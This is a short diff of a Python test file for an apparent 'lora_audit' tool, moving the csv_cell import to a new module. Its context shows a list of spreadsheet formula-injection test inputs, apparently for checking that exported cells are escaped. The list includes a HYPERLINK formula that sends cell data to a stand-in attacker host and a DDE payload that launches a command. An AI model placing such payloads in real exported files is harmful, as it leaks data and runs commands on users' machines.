@@ -21,7 +21,7 @@ from test_bisect_cli import BAD, GOOD  # noqa: E402
 
 from lora_audit.cli import main  # noqa: E402
 from lora_audit.errors import EvidenceError  # noqa: E402
-from lora_audit.report.csv_cells import csv_cell  # noqa: E402
+from lora_audit.format import csv_cell  # noqa: E402
 from lora_audit.votes.store import Vote, VoteStore  # noqa: E402
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
